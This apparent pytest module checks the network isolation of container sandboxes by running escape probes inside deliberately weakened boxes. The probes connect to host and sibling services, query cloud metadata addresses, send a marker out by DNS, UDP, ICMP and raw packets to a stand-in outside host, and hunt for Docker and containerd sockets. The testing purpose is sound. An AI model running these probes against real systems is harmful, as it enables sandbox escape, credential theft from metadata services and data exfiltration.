"""Getting anywhere but to the doors: the host, other sandboxes, the metadata service, any wire at all."""

from __future__ import annotations

import os
import shutil
import socket
import socketserver
import threading
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from .boxes import Box, Boxes, Shipped, engine, run_python
from .frame import BRIDGE, HOST_NETWORK, NO_SECCOMP, Weakness, attack
from .oracles import HostServices, Wire, host_addresses

pytestmark = [pytest.mark.docker, pytest.mark.timeout(120)]

METADATA_ADDRESSES = ("169.254.169.254", "169.254.170.2", "100.100.100.200", "192.0.0.192")
RAW = Weakness(
    name="root with NET_RAW on a bridge, without seccomp",
    rows={"NetworkMode": "bridge", "CapAdd": ["NET_RAW"], **NO_SECCOMP.rows},
    as_root=True,
)
# Where a stand-in for the engine listens that everybody may ask.
STAND_IN = Path(f"/tmp/qila-attack-engine-{os.getpid()}/docker.sock")
# Of documentation; nobody answers there, and on a wire it can be seen.
ELSEWHERE = "203.0.113.53"

CONNECT = r"""
import socket, sys
port, *addresses = sys.argv[1:]
for address in addresses:
    family = socket.AF_INET6 if ':' in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_STREAM) as attempt:
        attempt.settimeout(0.5)
        try:
            attempt.connect((address, int(port)))
        except OSError as error:
            print(address, error)
    with socket.socket(family, socket.SOCK_DGRAM) as attempt:
        try:
            attempt.sendto(b'attack', (address, int(port)))
        except OSError as error:
            print(address, error)
"""


@attack(weakened=BRIDGE)
def test_reach_a_service_of_the_host_at_any_of_its_addresses(box: Box, host: HostServices) -> list[str]:
    run_python(box, CONNECT, host.port, *host_addresses())
    return host.seen


@attack(weakened=BRIDGE)
def test_reach_the_gateway_of_a_bridge(box: Box, host: HostServices) -> list[str]:
    gateways = [f"172.{number}.0.1" for number in range(17, 24)]
    run_python(box, CONNECT, host.port, *gateways, "10.0.2.2", "192.168.65.2")
    return host.seen


@attack(weakened=HOST_NETWORK)
def test_reach_a_service_on_the_loopback_of_the_host(box: Box) -> list[str]:
    with HostServices() as services:
        run_python(box, CONNECT, services.port, "127.0.0.1", "::1", "127.0.0.2", "0.0.0.0", "::")
        return services.seen


FROM_A_PORT = r"""
import socket, sys
port, *addresses = sys.argv[1:]
for address in addresses:
    with socket.socket() as attempt:
        attempt.settimeout(0.5)
        attempt.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        attempt.bind(('', int(port)))
        try:
            attempt.connect((address, 80))
        except OSError as error:
            print(address, error)
"""


@attack(weakened=BRIDGE)
def test_ask_the_metadata_service_of_a_cloud(box: Box, wire: Wire) -> list[bytes]:
    for address in METADATA_ADDRESSES:
        wire.look_for_tcp(address, 40_080)
    run_python(box, FROM_A_PORT, 40_080, *METADATA_ADDRESSES)
    return wire.seen


SIBLING = r"""
import pathlib, socket
listener = socket.create_server(('', 7777))
print('ready', flush=True)
connection, address = listener.accept()
pathlib.Path('/tmp/visitor').write_text(address[0])
"""


@attack(weakened=BRIDGE)
def test_reach_a_sibling(box: Box, boxes: Boxes) -> list[str]:
    sibling: Box = Shipped(boxes.stack) if box.is_shipped else boxes.clone(replace(BRIDGE, name="a sibling"))
    program = sibling.start("python3", "-c", SIBLING)
    address = str(engine().inspect_container(sibling.container)["NetworkSettings"]["IPAddress"])
    nearby = [f"172.17.0.{number}" for number in range(2, 9)]
    run_python(box, CONNECT, 7777, *filter(None, [address]), "127.0.0.1", *nearby)
    visited = sibling.run("sh", "-c", "cat /tmp/visitor 2>/dev/null || true").lines
    program.stop()
    return visited


ABSTRACT = r"""
import socket, sys
with socket.socket(socket.AF_UNIX) as attempt:
    try:
        attempt.connect('\0' + sys.argv[1])
    except OSError as error:
        print(error)
"""


@attack(weakened=HOST_NETWORK)
def test_reach_an_abstract_unix_socket_of_the_host(box: Box, wire: Wire) -> list[str]:
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(f"\0{wire.marker}")
        listener.listen()
        listener.setblocking(False)
        run_python(box, ABSTRACT, wire.marker)
        try:
            listener.accept()[0].close()
        except BlockingIOError:
            return []
        return ["connected"]


LOOK_UP = r"""
import pathlib, socket, struct, sys
marker = sys.argv[1]
for name in (f'{marker}.example', f'{marker}.local'):
    try:
        socket.getaddrinfo(name, 80)
    except OSError as error:
        print(error)
question = struct.pack('>6H', 1, 256, 1, 0, 0, 0) + bytes([len(marker)]) + marker.encode() + b'\0\0\1\0\1'
lines = pathlib.Path('/etc/resolv.conf').read_text().splitlines()
servers = [line.split()[1] for line in lines if 'nameserver' in line]
for server in [*servers, '127.0.0.11', '203.0.113.53']:
    family = socket.AF_INET6 if ':' in server else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as attempt:
        try:
            attempt.sendto(question, (server, 53))
        except OSError as error:
            print(server, error)
"""


@attack(weakened=BRIDGE)
def test_send_a_name_out_with_a_look_up(box: Box, wire: Wire) -> list[bytes]:
    run_python(box, LOOK_UP, wire.marker)
    return wire.seen


RESOLVED = Weakness(
    name="with name servers",
    rows={
        "NetworkMode": "bridge",
        "Dns": [ELSEWHERE],
        "Mounts": lambda mounts: [mount for mount in mounts if mount["Target"] != "/etc/resolv.conf"],
    },
)


@attack(weakened=RESOLVED)
def test_learn_the_name_servers_of_the_host(box: Box) -> list[str]:
    lines = box.run("cat", "/etc/resolv.conf").lines
    told = [line for line in lines if line.startswith(("nameserver", "search", "domain"))]
    # The profile's own, where nobody answers.
    return [line for line in told if line != "nameserver 127.0.0.1"]


DATAGRAM = r"""
import socket, sys
marker, *addresses = sys.argv[1:]
for address in addresses:
    family = socket.AF_INET6 if ':' in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as attempt:
        attempt.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        try:
            attempt.sendto(marker.encode(), (address, 5353))
        except OSError as error:
            print(address, error)
"""


@attack(weakened=BRIDGE)
def test_send_a_datagram(box: Box, wire: Wire) -> list[bytes]:
    run_python(box, DATAGRAM, wire.marker, ELSEWHERE, "172.17.0.1", "255.255.255.255", "224.0.0.251")
    return wire.seen


@attack(
    weakened=Weakness(
        name="a bridge with IPv6", rows={"NetworkMode": "bridge", "Sysctls": {"net.ipv6.conf.all.disable_ipv6": "0"}}
    )
)
def test_send_a_datagram_by_ipv6(box: Box, wire: Wire) -> list[bytes]:
    # A link-local address counts only when the kernel has seen that nobody else has it.
    for _ in range(1 if box.is_shipped else 20):
        run_python(box, DATAGRAM, wire.marker, "ff02::1%eth0", "ff02::1%lo", "2001:db8::1", "fe80::1%eth0")
        if wire.seen:
            break
        run_python(box, "import time; time.sleep(0.3)")
    return wire.seen


PING = r"""
import socket, struct, sys
marker = sys.argv[1].encode()
def checksum(data):
    total = sum(struct.unpack(f'!{len(data) // 2}H', data))
    return ~((total & 0xffff) + (total >> 16)) & 0xffff
for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW):
    packet = struct.pack('!BBHHH', 8, 0, 0, 7, 1) + marker
    packet = packet[:2] + struct.pack('!H', checksum(packet)) + packet[4:]
    try:
        with socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP) as attempt:
            attempt.sendto(packet, ('203.0.113.53', 0))
    except OSError as error:
        print(kind, error)
"""


@attack(weakened=RAW)
def test_ping(box: Box, wire: Wire) -> list[bytes]:
    run_python(box, PING, wire.marker)
    return wire.seen


RAW_PACKETS = r"""
import socket, sys
marker = sys.argv[1].encode()
try:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, 253) as attempt:
        attempt.sendto(marker, ('203.0.113.53', 0))
except OSError as error:
    print(error)
for interface in ('eth0', 'lo'):
    try:
        with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800)) as attempt:
            attempt.bind((interface, 0))
            attempt.send(b'\xff' * 12 + b'\x08\x00' + marker + bytes(64))
    except OSError as error:
        print(error)
"""


@attack(weakened=RAW)
def test_send_raw_packets(box: Box, wire: Wire) -> list[bytes]:
    run_python(box, RAW_PACKETS, wire.marker)
    return wire.seen


INTERFACES = r"""
import os, pathlib
for name in os.listdir('/sys/class/net'):
    if name != 'lo':
        state = pathlib.Path(f'/sys/class/net/{name}/operstate').read_text().strip()
        print(name, state)
for line in pathlib.Path('/proc/net/route').read_text().splitlines()[1:]:
    print('route', line.split()[:3])
"""


@attack(weakened=BRIDGE)
def test_find_an_interface_that_is_up_or_a_route(box: Box) -> list[str]:
    # Some kernels show tunnels in every network namespace; they are down and nobody there may raise them.
    return [line for line in run_python(box, INTERFACES) if line.startswith("route") or line.endswith("up")]


ENGINE = r"""
import os, socket
places = ['/var/run/docker.sock', '/run/docker.sock', '/run/containerd/containerd.sock', '/run/podman/podman.sock',
          '/run/crio/crio.sock', '/run/docker/containerd/containerd.sock', '/run/buildkit/buildkitd.sock']
for top in ('/run', '/var', '/tmp', '/sandbox', '/mnt', '/opt', '/srv'):
    for directory, _, names in os.walk(top):
        places += [os.path.join(directory, name) for name in names if name.endswith(('.sock', '.socket'))]
for address in [*sorted(set(places)), ('127.0.0.1', 2375), ('127.0.0.1', 2376), ('172.17.0.1', 2375)]:
    family = socket.AF_UNIX if isinstance(address, str) else socket.AF_INET
    with socket.socket(family) as attempt:
        attempt.settimeout(0.5)
        try:
            attempt.connect(address)
            attempt.sendall(b'GET /_ping HTTP/1.0\r\n\r\n')
            print(address, attempt.recv(100))
        except OSError:
            pass
"""


@pytest.fixture
def stand_in_for_an_engine() -> Iterator[None]:
    """Answers as an engine does, whoever asks."""

    class Handler(socketserver.StreamRequestHandler):
        def handle(self) -> None:
            self.rfile.readline()
            self.wfile.write(b"HTTP/1.0 200 OK\r\n\r\nOK")

    STAND_IN.parent.mkdir(exist_ok=True)
    with socketserver.UnixStreamServer(str(STAND_IN), Handler) as server:
        STAND_IN.chmod(0o777)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield
        server.shutdown()
    shutil.rmtree(STAND_IN.parent)


def mount_engine(directory: Path) -> Weakness:
    mount = {"Type": "bind", "Source": str(directory), "Target": "/mnt"}
    return Weakness(name="an engine's socket within reach", rows={"Mounts": lambda mounts: [*mounts, mount]})


@attack(weakened=mount_engine(STAND_IN.parent), fresh=True)
def test_speak_to_the_engine(stand_in_for_an_engine: None, box: Box) -> list[str]:
    return run_python(box, ENGINE)
